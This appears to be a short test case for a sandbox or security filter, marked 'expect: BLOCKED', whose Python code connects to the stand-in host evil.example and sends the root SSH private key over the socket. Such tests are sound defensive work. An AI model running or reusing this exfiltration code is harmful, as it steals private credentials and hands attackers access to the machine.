# expect: BLOCKED
import os, socket
s = socket.create_connection(("evil.example", 1))
with open("/root/.ssh/id_rsa", "rb") as f:
    s.sendfile(f)
